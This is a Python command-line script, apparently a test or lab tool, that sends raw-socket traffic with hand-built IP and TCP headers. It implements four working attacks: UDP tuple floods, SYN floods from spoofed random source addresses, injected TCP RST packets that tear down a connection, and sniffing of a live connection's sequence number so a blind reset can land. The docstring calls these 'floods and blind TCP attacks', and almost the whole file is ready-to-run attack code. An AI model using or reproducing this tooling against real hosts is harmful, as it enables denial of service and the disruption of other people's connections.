"""Floods and blind TCP attacks, at the rate a raw socket allows (no scapy in the loop).
Prints the number of packets sent.

udp-tuples SRC DST N [DPORT]   N UDP datagrams SRC:* -> DST:*, each a new tuple (source
                               ports 1024-65535, then the next destination port; from
                               10000, or DPORT alone: at most 64512 datagrams)
syn-flood SRCNET DST DPORT N   N TCP SYNs to DST:DPORT from random sources in SRCNET (a
                               /16, e.g. 10.99.0.0) and random ports
rst SRC SPORT DST DPORT SEQ N  N RSTs SRC:SPORT -> DST:DPORT with sequence number SEQ
first-seq IFACE SRC SPORT SECS prints "ready", then where the first data segment from
                               SRC:SPORT seen on IFACE ends in sequence space (seq + len)
"""
import random, socket, struct, sys

mode = sys.argv[1]


def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


def ip_header(src, dst, proto, payload_len):
    # The kernel fills in the checksum (and the id when 0) of an IP_HDRINCL header.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, 0, 0, 64, proto, 0, src, dst)


def tcp_checksum(src, dst, segment):
    data = src + dst + struct.pack("!BBH", 0, 6, len(segment)) + segment
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp(src, dst, sport, dport, seq, flags):
    seg = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, flags, 8192, 0, 0)
    csum = tcp_checksum(src, dst, seg)
    return seg[:16] + struct.pack("!H", csum) + seg[18:]


if mode == "udp-tuples":
    src, dst, n = socket.inet_aton(sys.argv[2]), socket.inet_aton(sys.argv[3]), int(sys.argv[4])
    s, sent = raw(), 0
    head = ip_header(src, dst, 17, 8)
    dport = int(sys.argv[5]) if len(sys.argv) > 5 else 10000
    if len(sys.argv) > 5 and n > 64512:
        sys.exit("one destination port takes at most 64512 tuples")
    while sent < n:
        for sport in range(1024, 65536):
            if sent == n:
                break
            # UDP checksum 0: none.
            s.sendto(head + struct.pack("!HHHH", sport, dport, 8, 0), (sys.argv[3], 0))
            sent += 1
        dport += 1
    print(sent)
elif mode == "syn-flood":
    net, dst, dport, n = sys.argv[2].split("."), socket.inet_aton(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
    s = raw()
    for _ in range(n):
        src = socket.inet_aton(f"{net[0]}.{net[1]}.{random.randint(1, 254)}.{random.randint(1, 254)}")
        seg = tcp(src, dst, random.randint(1024, 65535), dport, random.getrandbits(32), 0x02)
        s.sendto(ip_header(src, dst, 6, len(seg)) + seg, (sys.argv[3], 0))
    print(n)
elif mode == "rst":
    src, sport, dst, dport = socket.inet_aton(sys.argv[2]), int(sys.argv[3]), socket.inet_aton(sys.argv[4]), int(sys.argv[5])
    seq, n = int(sys.argv[6]) % (1 << 32), int(sys.argv[7])
    s = raw()
    seg = tcp(src, dst, sport, dport, seq, 0x04)
    for _ in range(n):
        s.sendto(ip_header(src, dst, 6, len(seg)) + seg, (sys.argv[4], 0))
    print(n)
elif mode == "first-seq":
    iface, src, sport, secs = sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((iface, 0))
    s.settimeout(secs)
    print("ready", flush=True)
    want = socket.inet_aton(src)
    while True:
        frame = s.recv(65535)
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        if ip[9] != 6 or ip[12:16] != want:
            continue
        total = struct.unpack("!H", ip[2:4])[0]
        t = ip[ihl:]
        if struct.unpack("!H", t[0:2])[0] != sport:
            continue
        data_len = total - ihl - (t[12] >> 4) * 4
        if data_len > 0:
            print((struct.unpack("!I", t[4:8])[0] + data_len) % (1 << 32), flush=True)
            break
else:
    sys.exit(f"unknown mode {mode}")
